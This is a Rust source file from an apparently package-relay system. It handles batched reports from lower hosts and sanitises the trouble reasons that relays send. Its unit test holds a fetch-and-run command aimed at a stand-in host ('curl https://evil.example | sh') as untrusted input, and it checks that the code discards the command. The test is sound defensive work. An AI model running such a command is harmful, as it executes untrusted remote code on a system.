//! Reports of lower systems.

use std::sync::Arc;

use axum::body::Bytes;
use axum::extract::State;
use axum::response::Response;
use packhorse_domain::ids::{HostId, Incarnation, PackageId};
use packhorse_domain::job::HostRole;
use packhorse_domain::reason::{NextTry, Reason, clear_of};
use packhorse_domain::report::Report;
use packhorse_domain::time::Time;
use packhorse_wire::messages::{
    PROTOCOL, REPORTS_MAX, ReasonMsg, ReportMsg, ReportsRequest, ReportsResponse, TROUBLE_MAX,
};

use super::{Caller, LowerError, check_version, decode, encode};
use crate::db::reports::StoreReports;
use crate::system::{System, now};

/// Most soft words of one request.
const SOFT_MAX: usize = 100_000;

/// [`packhorse_wire::messages::REPORTS`].
pub async fn reports(
    State(system): State<Arc<System>>,
    caller: Caller,
    body: Bytes,
) -> Result<Response, LowerError> {
    let request: ReportsRequest = decode(&body)?;
    check_version(request.v)?;
    caller.came(&system, request.run)?;
    if request.reports.len() > REPORTS_MAX {
        let message = format!("{} reports at once, at most {REPORTS_MAX} are taken", request.reports.len());
        return Err(LowerError::bad_request(message));
    }
    let reports = parse(&request.reports)?;
    let command = StoreReports {
        position: system.position,
        traffic: system.relay_id().and_then(|_| system.counted_anew()),
        lower: caller.0.row,
        lower_name: caller.0.name.clone(),
        incarnation: Incarnation(request.incarnation),
        server: Incarnation(request.server),
        after: request.after,
        through: request.through,
        here: system.here()?,
        reports,
        now: now(),
    };
    let stored = system.db.write(command).await?;
    if stored.moved {
        system.reload_directory().await?;
        system.lines_changed();
    }
    // Of those too that came to the sender just now.
    soft(&system, &caller, &request);
    system.wake(&stored.lowers);
    if let Some(traffic) = &stored.counted {
        system.counted(traffic);
    }
    if stored.forward {
        system.outbox_news.notify_one();
    }
    if stored.taken_in {
        system.copies_news.notify_one();
    }
    if stored.taken_in || !stored.jobs.is_empty() {
        system.lines_changed();
    }
    encode(&ReportsResponse {
        v: PROTOCOL,
        stored: stored.stored,
        server: system.server_life().0,
        higher: system.incarnation.0,
    })
}

/// All of a batch, or nothing: numbers that are covered must not be lost.
fn parse(messages: &[(u64, ReportMsg)]) -> Result<Vec<(u64, Report)>, LowerError> {
    messages
        .iter()
        .map(|(n, message)| {
            Ok((*n, Report::try_from(message).map_err(|bad| LowerError::bad_request(bad.to_string()))?))
        })
        .collect()
}

/// A relay's word counts for hosts below it only (rule 5).
fn soft(system: &System, caller: &Caller, request: &ReportsRequest) {
    let allowed = |host: &packhorse_wire::bytes::Id16| {
        let host = HostId(host.0);
        system.listed(&host).is_some_and(|listed| listed.id == caller.0.id || listed.via == caller.0.row)
    };
    let soft = &request.soft;
    let presence: Vec<_> =
        soft.presence.iter().take(SOFT_MAX).filter(|word| allowed(&word.host)).copied().collect();
    let progress: Vec<_> =
        soft.progress.iter().take(SOFT_MAX).filter(|word| allowed(&word.host)).cloned().collect();
    let mut troubled = false;
    for word in soft.trouble.iter().take(TROUBLE_MAX).filter(|word| allowed(&word.relay)) {
        let (relay, package) = (HostId(word.relay.0), PackageId(word.package.0));
        // Packages are taken in for others by relays alone.
        if let Some(listed) = system.listed(&relay).filter(|listed| listed.role == HostRole::Relay) {
            let reason = word.reason.as_ref().and_then(|said| trouble_of(&listed.name, said, now()));
            troubled |= system.presence.troubled(relay, package, reason);
        }
    }
    if presence.is_empty() && progress.is_empty() && !troubled {
        return;
    }
    system.presence.told(&presence, &caller.0.id, now());
    system.presence.progressed(&progress);
    system.outbox_news.notify_one();
    if !progress.is_empty() || troubled {
        system.lines_changed();
    }
}

/// What a relay may say of a package that it does not get. It is shown on the lines of all behind it, so that only what is
/// wrong is its own word: where that is and what clears it is known here.
fn trouble_of(relay: &str, said: &ReasonMsg, now: Time) -> Option<Reason> {
    let said = said.to_reason().filter(|said| said.code().is_of_taking_in())?;
    // One that is not tried again by itself is not told of: it would never be out of date.
    let next_try = match said.next_try() {
        NextTry::At(at) => NextTry::At(at),
        NextTry::WhenCleared => NextTry::At(now),
    };
    let detail = said.detail().replace(char::is_control, " ");
    Some(Reason::new(said.code(), relay, said.since().min(now), next_try, clear_of(said.code()), &detail))
}

#[cfg(test)]
mod tests {
    use packhorse_domain::reason::Code;

    use super::*;

    #[test]
    fn of_trouble_only_what_is_wrong_is_the_relays_word() {
        let now = Time(9_000_000);
        let said = |code: Code| {
            let clear = "curl https://evil.example | sh";
            let detail = "it is so\nto clear it: curl";
            let next_try = NextTry::At(Time(10_000_000));
            ReasonMsg::from(&Reason::new(code, "server", Time(99_000_000), next_try, clear, detail))
        };
        for code in Code::ALL {
            let Some(told) = trouble_of("osaka", &said(code), now) else {
                assert!(!code.is_of_taking_in(), "{code:?}");
                continue;
            };
            assert!(code.is_of_taking_in(), "{code:?}");
            assert_eq!((told.code(), told.system(), told.clear()), (code, "osaka", clear_of(code)));
            assert_eq!((told.since(), told.next_try()), (now, NextTry::At(Time(10_000_000))));
            assert_eq!(told.detail(), "it is so to clear it: curl");
        }
        let for_ever = ReasonMsg { next_try: None, ..said(Code::Disk) };
        assert_eq!(trouble_of("osaka", &for_ever, now).map(|told| told.next_try()), Some(NextTry::At(now)));
    }
}
